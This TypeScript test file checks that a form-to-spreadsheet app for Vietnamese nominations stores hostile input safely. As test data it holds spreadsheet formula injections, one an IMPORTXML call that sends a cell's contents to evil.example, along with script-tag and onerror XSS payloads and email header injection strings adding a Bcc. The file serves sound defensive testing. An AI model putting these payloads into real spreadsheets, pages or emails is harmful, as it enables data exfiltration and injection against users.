// Tests hostile or odd input through the built bundle (issue 6 §3): formula text in every free-text answer,
// HTML in names, line breaks in header fields, answers over the 50,000-character cell limit, odd Unicode in
// unit names, and '|' or regex metacharacters in the values the server-side duplicate searches look for.
import { describe, expect, it } from 'vitest';
import type { SentMail } from '../../offline/gas/mail-app';
import { ARTICLE_TITLES, EXEMPLAR_TITLES, type Seeded, SMALL_REGISTRY, seededEnvironment, vn } from './helpers';

const EX = 'Gương ĐHTT-NTVT';
const ART = 'Bài viết dự thi';
const ERR = 'Lỗi nhập liệu';
const TRUNCATED = 'Cắt bớt (quá 50.000 ký tự)';
const OTHER_UNIT = 'Có thể trùng đơn vị khác';

type Kind = 'exemplar' | 'article';
type Answers = Record<string, string | string[]>;

function exemplarAnswers(o: Partial<Record<keyof typeof EXEMPLAR_TITLES, string | string[]>>): Answers {
  const base: Answers = {
    [EXEMPLAR_TITLES.unit]: 'PB01',
    [EXEMPLAR_TITLES.name]: 'Nguyễn Văn An',
    [EXEMPLAR_TITLES.kind]: 'Cá nhân',
    [EXEMPLAR_TITLES.field]: 'Công tác',
    [EXEMPLAR_TITLES.criteria]: ['Hoàn thành xuất sắc nhiệm vụ được giao'],
    [EXEMPLAR_TITLES.source]: 'Phong trào thi đua',
    [EXEMPLAR_TITLES.summary]: 'Hoàn thành xuất sắc nhiệm vụ năm 2023.',
  };
  for (const [k, v] of Object.entries(o)) base[EXEMPLAR_TITLES[k]] = v as string | string[];
  return base;
}

function articleAnswers(o: Partial<Record<keyof typeof ARTICLE_TITLES, string>>): Answers {
  const base: Answers = {
    [ARTICLE_TITLES.unit]: 'PB01',
    [ARTICLE_TITLES.title]: 'Người giữ lửa',
    [ARTICLE_TITLES.author]: 'Nguyễn Thị Mai',
    [ARTICLE_TITLES.genre]: 'Bài viết',
    [ARTICLE_TITLES.subject]: 'Nguyễn Văn An',
    [ARTICLE_TITLES.url]: 'https://baiviet.example.vn/1',
  };
  for (const [k, v] of Object.entries(o)) base[ARTICLE_TITLES[k]] = v as string;
  return base;
}

/** Submits through the form, as a respondent would; the form-submit trigger runs. */
function submit(s: Seeded, kind: Kind, at: string, answers: Answers, email = 'noivu@example.vn') {
  s.env.clock.set(vn(at));
  return s.env.services.FormApp.openById(s.formId(kind)).importResponse({ email, timestamp: vn(at), answers });
}

function rows(s: Seeded, sheet: string): Record<string, unknown>[] {
  const [header, ...data] = s.sheetValues(sheet);
  return data.map((r) => Object.fromEntries(header.map((h, i) => [String(h), r[i]])));
}

/** Value and formula of one cell, addressed by sheet row (1-based, header = 1) and header text. */
function cell(s: Seeded, sheet: string, row: number, header: string) {
  const sh = s.env.spreadsheet.getSheetByName(sheet)!;
  const col = (s.sheetValues(sheet)[0] as string[]).indexOf(header) + 1;
  if (col === 0) throw new Error(`no column ${header} in ${sheet}`);
  const range = sh.getRange(row, col);
  return { value: range.getValue(), formula: range.getFormula() };
}

const FORMULAS = [
  '=1+1',
  '+84 912 345 678',
  '-5',
  '@SUM(A1:A2)',
  '=IMPORTXML("https://evil.example/x?q="&A2,"//a")',
  '=HYPERLINK("https://evil.example","Bấm vào đây")',
];
const EXEMPLAR_FREE_TEXT = ['name', 'position', 'summary'] as const;
const ARTICLE_FREE_TEXT = ['title', 'author', 'subject'] as const;

describe('formula text in every free-text answer of both forms', () => {
  const s = seededEnvironment();
  FORMULAS.forEach((f, i) => {
    submit(s, 'exemplar', `2023-05-02T09:0${i}:00`, exemplarAnswers({ name: f, position: f, summary: f }), f);
    submit(s, 'article', `2023-05-03T09:0${i}:00`, articleAnswers({ title: f, author: f, subject: f }), f);
  });

  it('is stored in Gương ĐHTT-NTVT as the literal text, never a formula', () => {
    expect(rows(s, EX)).toHaveLength(FORMULAS.length);
    FORMULAS.forEach((f, i) => {
      for (const key of EXEMPLAR_FREE_TEXT) {
        expect(cell(s, EX, i + 2, EXEMPLAR_TITLES[key])).toEqual({ value: f, formula: '' });
      }
      expect(cell(s, EX, i + 2, 'Email người gửi')).toEqual({ value: f, formula: '' });
    });
  });

  it('is stored in Bài viết dự thi as the literal text, never a formula', () => {
    expect(rows(s, ART)).toHaveLength(FORMULAS.length);
    FORMULAS.forEach((f, i) => {
      for (const key of ARTICLE_FREE_TEXT) {
        expect(cell(s, ART, i + 2, ARTICLE_TITLES[key])).toEqual({ value: f, formula: '' });
      }
    });
  });

  it('is stored literally in Lỗi nhập liệu when the response is rejected (unit answer, URL answer, raw answers)', () => {
    const bad = '=IMPORTXML("https://evil.example","//a")';
    submit(s, 'exemplar', '2023-05-04T09:00:00', exemplarAnswers({ unit: bad }));
    submit(s, 'article', '2023-05-04T09:01:00', articleAnswers({ url: bad, title: bad }));
    const errors = rows(s, ERR);
    expect(errors).toHaveLength(2);
    expect(cell(s, ERR, 2, 'Đơn vị (như đã trả lời)')).toEqual({ value: bad, formula: '' });
    const header = s.sheetValues(ERR)[0] as string[];
    for (const row of [2, 3]) {
      for (const h of header) expect(cell(s, ERR, row, h).formula).toBe('');
    }
    expect(JSON.parse(String(errors[1]['Dữ liệu gốc']))[ARTICLE_TITLES.url]).toBe(bad);
  });

  it('stays literal after Xây dựng lại dữ liệu rewrites the sheets', () => {
    s.env.run('rebuildData');
    FORMULAS.forEach((f, i) => {
      expect(cell(s, EX, i + 2, EXEMPLAR_TITLES.name)).toEqual({ value: f, formula: '' });
      expect(cell(s, ART, i + 2, ARTICLE_TITLES.title)).toEqual({ value: f, formula: '' });
    });
  });
});

const HOSTILE_UNIT = '<script>alert("x")</script> Phường <b>Tây Mỗ</b> & Co';
const HOSTILE_NOMINEE = '<img src=x onerror=alert(1)> Lê Văn Bình';

function htmlTags(m: SentMail): string[] {
  return (m.htmlBody ?? '').match(/<script|<b>|<img/gi) ?? [];
}

describe('HTML and script in a unit name and a nominee name', () => {
  const s = seededEnvironment({
    registry: [...SMALL_REGISTRY, ['PH09', HOSTILE_UNIT, 'phuong', 'taymo@example.vn', '', '', 'Có']],
  });
  s.env.run('apiImportSettings_', [
    ['Gửi xác nhận cho người gửi', 'Có'],
    ['Email Nội vụ', 'noivu@example.vn'],
  ]);
  submit(
    s,
    'exemplar',
    '2023-05-02T09:00:00',
    exemplarAnswers({ unit: HOSTILE_UNIT, name: HOSTILE_NOMINEE }),
    'taymo@example.vn',
  );
  const receipt = s.env.services.MailApp.sent.at(-1)!;
  s.env.clock.set(vn('2023-05-10T08:00:00'));
  s.env.runTrigger('dailyJob');
  const reminder = s.env.services.MailApp.sent.find((m) => m.to.includes('taymo@example.vn') && m !== receipt)!;

  it('are stored as given', () => {
    expect(rows(s, EX)[0]).toMatchObject({ 'Mã đơn vị': 'PH09', [EXEMPLAR_TITLES.name]: HOSTILE_NOMINEE });
  });

  it('appear escaped in the reminder HTML, never as markup', () => {
    expect(reminder.htmlBody).toContain(
      '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; Phường &lt;b&gt;Tây Mỗ&lt;/b&gt; &amp; Co',
    );
    expect(htmlTags(reminder)).toEqual([]);
  });

  it('never reach the receipt as HTML: it is plain text only', () => {
    expect(receipt.to).toEqual(['taymo@example.vn']);
    expect(receipt.htmlBody).toBeUndefined();
    expect(htmlTags(receipt)).toEqual([]);
    expect(receipt.body).not.toContain(HOSTILE_NOMINEE);
  });

  it('never appear unescaped in any email sent', () => {
    for (const m of s.env.services.MailApp.sent) expect(htmlTags(m)).toEqual([]);
  });
});

describe('line breaks in a unit name and in Tên phòng Nội vụ', () => {
  const s = seededEnvironment({
    registry: [
      ...SMALL_REGISTRY,
      ['PH09', 'UBND phường Tây Mỗ\r\nBcc: spy@evil.example', 'phuong', 'taymo@example.vn', '', '', 'Có'],
    ],
  });
  s.env.run('apiImportSettings_', [
    ['Gửi xác nhận cho người gửi', 'Có'],
    ['Tên phòng Nội vụ', 'Phòng Nội vụ\r\nBcc: spy@evil.example\u2028X-Injected: 1'],
  ]);
  submit(s, 'exemplar', '2023-05-02T09:00:00', exemplarAnswers({ unit: 'PH09' }), 'taymo@example.vn');
  s.env.clock.set(vn('2023-05-10T08:00:00'));
  s.env.runTrigger('dailyJob');
  const mails = s.env.services.MailApp.sent;

  it('never put a line break into a subject or a sender name, of receipts and reminders alike', () => {
    expect(mails.length).toBeGreaterThan(1);
    for (const m of mails) {
      expect(m.subject).not.toMatch(/[\r\n\u2028\u2029]/);
      expect(m.name ?? '').not.toMatch(/[\r\n\u2028\u2029]/);
      expect(m.bcc).toEqual([]);
    }
    expect(mails[0].name).toBe('Phòng Nội vụ Bcc: spy@evil.example X-Injected: 1');
  });

  it('keep the unit name on one line in the subject', () => {
    const toUnit = mails.filter((m) => m.to.includes('taymo@example.vn'));
    expect(toUnit).toHaveLength(2);
    for (const m of toUnit) expect(m.subject).toContain('UBND phường Tây Mỗ Bcc: spy@evil.example');
  });
});

describe('an answer of 60,000 characters (a sheet cell holds 50,000)', () => {
  const long = `${'Tóm tắt thành tích của gương điển hình năm 2023. '.repeat(1300).slice(0, 59_999)}.`;

  function check(s: Seeded, responseId: string) {
    const row = rows(s, EX).find((r) => r['Mã phản hồi'] === responseId)!;
    const stored = String(row[EXEMPLAR_TITLES.summary]);
    expect(stored.length).toBeLessThanOrEqual(50_000);
    expect(stored.length).toBeGreaterThan(49_000);
    expect(long.startsWith(stored)).toBe(true);
    expect(String(row['Cờ']).split('; ')).toContain(TRUNCATED);
    expect(row['Được tính']).toBe('Có');
  }

  function formAnswer(s: Seeded, responseId: string): string {
    const r = s.env.services.FormApp.openById(s.formId('exemplar')).getResponse(responseId);
    const item = r.getItemResponses().find((x) => x.getItem().getTitle() === EXEMPLAR_TITLES.summary)!;
    return String(item.getResponse());
  }

  it('is stored cut to what fits, the row flagged, the whole answer still in the form', () => {
    expect(long.length).toBe(60_000);
    const s = seededEnvironment();
    const r = submit(s, 'exemplar', '2023-05-02T09:00:00', exemplarAnswers({ summary: long }));
    check(s, r.getId()!);
    expect(formAnswer(s, r.getId()!)).toBe(long);
  });

  it('is flagged the same when the hourly reconcile stores it (the trigger never fired), and after a rebuild', () => {
    const s = seededEnvironment();
    s.env.delivery = 'never';
    const r = submit(s, 'exemplar', '2023-05-02T09:00:00', exemplarAnswers({ summary: long }));
    expect(rows(s, EX)).toHaveLength(0);
    s.env.runTrigger('hourlyReconcile');
    check(s, r.getId()!);
    s.env.run('rebuildData');
    check(s, r.getId()!);
    expect(formAnswer(s, r.getId()!)).toBe(long);
  });

  it('in a short-answer question is refused as too long into Lỗi nhập liệu, the form keeping it whole', () => {
    const s = seededEnvironment();
    const name = 'Nguyễn Văn An '.repeat(4300).trim();
    const r = submit(s, 'exemplar', '2023-05-02T09:00:00', exemplarAnswers({ name }));
    const [err] = rows(s, ERR);
    expect(err['Mã lỗi']).toBe('TOO_LONG');
    expect(err['Lý do']).toBe('Nội dung mục "Họ và tên (hoặc tên tập thể, hộ gia đình)" quá dài, tối đa 49.000 ký tự.');
    expect(String(err['Dữ liệu gốc']).length).toBeLessThanOrEqual(50_000);
    const item = r.getItemResponses().find((x) => x.getItem().getTitle() === EXEMPLAR_TITLES.name)!;
    expect(item.getResponse()).toBe(name);
  });
});

describe('odd Unicode in unit names', () => {
  const NAME = 'UBND phường Tây Mỗ';
  const variants: [string, string][] = [
    ['NFD', NAME.normalize('NFD')],
    ['zero-width spaces and BOM', `\uFEFF${NAME.replace(' Tây', '\u200B Tây\u200B')}\u200D`],
    ['RTL and LTR marks', `\u200F${NAME}\u200E`],
    ['bidi embedding and isolate', `\u202B${NAME}\u202C\u2067\u2069`],
    ['Arabic letter mark', `${NAME}\u061C`],
    ['no-break spaces', NAME.replace(/ /g, '\u00A0')],
    ['soft hyphen', NAME.replace('phường', 'phư\u00ADờng')],
    ['all at once, in NFD', `\u200F\u00A0${NAME.replace(/ /g, '\u00A0\u200B')}\u202F\u200E`.normalize('NFD')],
  ];

  it('still match the registry unit (answers with invisible or decomposed characters)', () => {
    const s = seededEnvironment({
      registry: [...SMALL_REGISTRY, ['PH09', NAME, 'phuong', 'taymo@example.vn', '', '', 'Có']],
    });
    variants.forEach(([, unit], i) => {
      submit(
        s,
        'exemplar',
        `2023-05-02T09:${String(i).padStart(2, '0')}:00`,
        exemplarAnswers({ unit, name: `Gương ${i}` }),
      );
    });
    expect(rows(s, ERR)).toEqual([]);
    expect(rows(s, EX).map((r) => [r['Mã đơn vị'], r['Tên đơn vị']])).toEqual(variants.map(() => ['PH09', NAME]));
  });

  it('in the registry itself still match a plain answer', () => {
    for (const [label, registered] of variants) {
      const s = seededEnvironment({
        registry: [...SMALL_REGISTRY, ['PH09', registered, 'phuong', 'taymo@example.vn', '', '', 'Có']],
      });
      submit(s, 'exemplar', '2023-05-02T09:00:00', exemplarAnswers({ unit: NAME }));
      expect([label, rows(s, EX).map((r) => r['Mã đơn vị'])]).toEqual([label, ['PH09']]);
    }
  });
});

describe("'|' and regex metacharacters in unit codes, unit names and nominee names", () => {
  const CCB_NAME = 'Hội Cựu chiến binh | Khu (1) [A-Z]+.*? $^ \\d';
  const registry = [...SMALL_REGISTRY, ['CCB|1', CCB_NAME, 'mttq_doan_the', 'ccb@example.vn', '', '', 'Có']];

  function flagsByName(s: Seeded): [unknown, unknown, unknown][] {
    return rows(s, EX).map((r) => [r['Mã đơn vị'], r[EXEMPLAR_TITLES.name], r['Cờ']]);
  }

  it('match the unit and flag its repeated nominee as Trùng, counted once', () => {
    const s = seededEnvironment({ registry });
    submit(
      s,
      'exemplar',
      '2023-05-02T09:00:00',
      exemplarAnswers({ unit: CCB_NAME, name: 'Phạm Thị Dung' }),
      'ccb@example.vn',
    );
    submit(
      s,
      'exemplar',
      '2023-05-03T09:00:00',
      exemplarAnswers({ unit: CCB_NAME, name: 'phạm thị  dung' }),
      'ccb@example.vn',
    );
    expect(rows(s, ERR)).toEqual([]);
    expect(rows(s, EX).map((r) => [r['Mã đơn vị'], r['Cờ'], r['Được tính']])).toEqual([
      ['CCB|1', '', 'Có'],
      ['CCB|1', 'Trùng', 'Không'],
    ]);
    const unit = s.env
      .run<{ units: { code: string; exemplars: { counted: number } }[] }>('apiSummary_', '2023-05')
      .units.find((u) => u.code === 'CCB|1')!;
    expect(unit.exemplars.counted).toBe(1);
  });

  it('find the same nominee in a unit whose code holds a "|"', () => {
    const s = seededEnvironment({ registry });
    submit(
      s,
      'exemplar',
      '2023-05-02T09:00:00',
      exemplarAnswers({ unit: 'CCB|1', name: 'Phạm Thị Dung' }),
      'ccb@example.vn',
    );
    submit(s, 'exemplar', '2023-05-03T09:00:00', exemplarAnswers({ unit: 'PB01', name: 'Phạm Thị Dung' }));
    expect(flagsByName(s).map((r) => r[2])).toEqual(['', OTHER_UNIT]);
  });

  it('never take a name holding "|" or metacharacters for another name', () => {
    const s = seededEnvironment({ registry });
    const pairs = [
      ['Lê|Hoa', 'Lê'],
      ['Hà|1980', 'Hà'],
      ['Trần Thị Mai', 'Trần.Thị.Mai'],
      ['Nguyễn Văn (An)', 'Nguyễn Văn An'],
      ['Hoàng Yến', '.*'],
      ['Đỗ [Minh]', 'Đỗ M'],
    ];
    pairs.forEach(([first, second], i) => {
      submit(s, 'exemplar', `2023-05-02T09:0${i}:00`, exemplarAnswers({ unit: 'PB01', name: first }));
      submit(
        s,
        'exemplar',
        `2023-05-03T09:0${i}:00`,
        exemplarAnswers({ unit: 'DT01', name: second }),
        'quandoan@example.vn',
      );
    });
    expect(flagsByName(s).filter((r) => r[2] !== '')).toEqual([]);
  });

  it('flag a metacharacter-laden name nominated by two units, the same way the full recomputation does', () => {
    const s = seededEnvironment({ registry });
    const name = 'Vũ (Văn) *Giang* | 2 [x] $';
    submit(s, 'exemplar', '2023-05-02T09:00:00', exemplarAnswers({ unit: 'PB01', name }));
    submit(s, 'exemplar', '2023-05-03T09:00:00', exemplarAnswers({ unit: 'CCB|1', name }), 'ccb@example.vn');
    submit(s, 'exemplar', '2023-05-04T09:00:00', exemplarAnswers({ unit: 'CCB|1', name }), 'ccb@example.vn');
    const atIngest = flagsByName(s);
    expect(atIngest.map((r) => r[2])).toEqual(['', OTHER_UNIT, `Trùng; ${OTHER_UNIT}`]);
    s.env.run('rebuildData');
    // The recomputation also marks the first row: by then it knows the later nomination by another unit.
    expect(flagsByName(s).map((r) => r[2])).toEqual([OTHER_UNIT, OTHER_UNIT, `Trùng; ${OTHER_UNIT}`]);
  });
});
